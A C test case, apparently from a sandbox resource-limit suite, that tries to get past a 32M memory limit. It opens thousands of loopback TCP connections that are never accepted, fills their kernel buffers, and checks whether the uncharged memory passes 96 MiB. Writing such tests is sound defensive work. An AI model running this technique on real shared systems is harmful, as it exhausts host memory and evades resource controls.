// case: C10 C22
// attack: keeps memory in connections that it never accepts, which the kernel charges to nobody
// expect: held or outcome memory
// outside: through
// limits: memory=32M
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
static char block[1 << 16];
// Bytes that were received and not read, as the kernel's table has them.
static long received(void) {
    FILE *table = fopen("/proc/self/net/tcp", "r");
    char line[512];
    unsigned long sent, held, total = 0;
    while (table && fgets(line, sizeof line, table))
        if (sscanf(line, "%*s %*s %*s %*s %lx:%lx", &sent, &held) == 2) total += held;
    if (table) fclose(table);
    return total;
}
int main(void) {
    int size = 1 << 20;
    for (int number = 0; number < 12; number += 1) {
        int listener = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
        socklen_t length = sizeof address;
        setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
        setsockopt(listener, SOL_SOCKET, SO_RCVLOWAT, &size, sizeof size);
        if (bind(listener, (void *)&address, length) || listen(listener, SOMAXCONN)) continue;
        getsockname(listener, (void *)&address, &length);
        for (int count = 0; count < 4096; count += 1) {
            int caller = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
            if (connect(caller, (void *)&address, length) && errno != EINPROGRESS) break;
            // What is sent beyond that waits here, and is the program's own.
            for (int part = 0; part < 4 && send(caller, block, sizeof block, 0) > 0; part += 1) continue;
            close(caller);
            if (count % 64 == 63 && received() > 96 << 20) through("%ld MiB wait", received() >> 20);
        }
    }
    held("%ld MiB wait", received() >> 20);
}
